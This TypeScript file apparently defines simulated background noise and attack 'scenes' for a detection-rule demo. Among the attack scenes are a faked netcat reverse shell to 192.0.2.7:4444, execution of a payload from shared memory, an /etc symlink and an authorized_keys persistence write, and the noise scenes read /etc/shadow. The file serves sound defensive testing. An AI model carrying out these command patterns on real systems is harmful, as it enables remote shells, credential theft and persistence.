/** Something the demo does now and then: a script under a telling name. Nothing leaves the demo's folder but the reads. */
export interface Scene {
	/** The script's file name, which becomes the process's name. */
	readonly program: string;
	/** Shell lines; `$DEMO` is the demo's folder. Only builtins and coreutils, so that it runs everywhere. */
	readonly script: string;
	readonly args?: readonly string[];
	readonly everyMs: number;
	/** The first run, so that scenes do not start together. */
	readonly firstMs: number;
}

/** What a busy node does all day and rules complain about. */
export const NOISE: readonly Scene[] = [
	{program: 'backup-agent', script: 'read -r line < /etc/shadow', args: ['--full'], everyMs: 700, firstMs: 100},
	{
		program: 'inventory',
		script: 'read -r line < /etc/sudoers; read -r line < /etc/shadow',
		args: ['--hosts'],
		everyMs: 2_900,
		firstMs: 900,
	},
	{program: 'httpd', script: 'sh -c "exit 0"; exit 0', args: ['-k', 'healthcheck'], everyMs: 1_700, firstMs: 400},
	{program: 'log-shipper', script: ': > "$DEMO/syslog"', everyMs: 4_300, firstMs: 1_500},
	{program: 'key-audit', script: 'find "$DEMO" -maxdepth 1 -name id_rsa; exit 0', everyMs: 6_100, firstMs: 2_200},
];

/** What must not drown in it. */
export const ATTACKS: readonly Scene[] = [
	{
		program: 'updater',
		script: 'cp "$DEMO/payload" "$SHM/payload.sh"; "$SHM/payload.sh"; rm -f "$SHM/payload.sh"',
		everyMs: 19_000,
		firstMs: 5_000,
	},
	{program: 'nc', script: 'exit 0', args: ['-e', '/bin/sh', '192.0.2.7', '4444'], everyMs: 23_000, firstMs: 8_000},
	{program: 'intruder', script: 'rm -f "$DEMO/etc"; ln -s /etc "$DEMO/etc"', everyMs: 29_000, firstMs: 11_000},
	{program: 'cleaner', script: 'echo secret > "$DEMO/secret"; shred -u "$DEMO/secret"', everyMs: 31_000, firstMs: 14_000},
	{program: 'persist', script: 'mkdir -p "$DEMO/.ssh"; echo key > "$DEMO/.ssh/authorized_keys"', everyMs: 37_000, firstMs: 17_000},
];
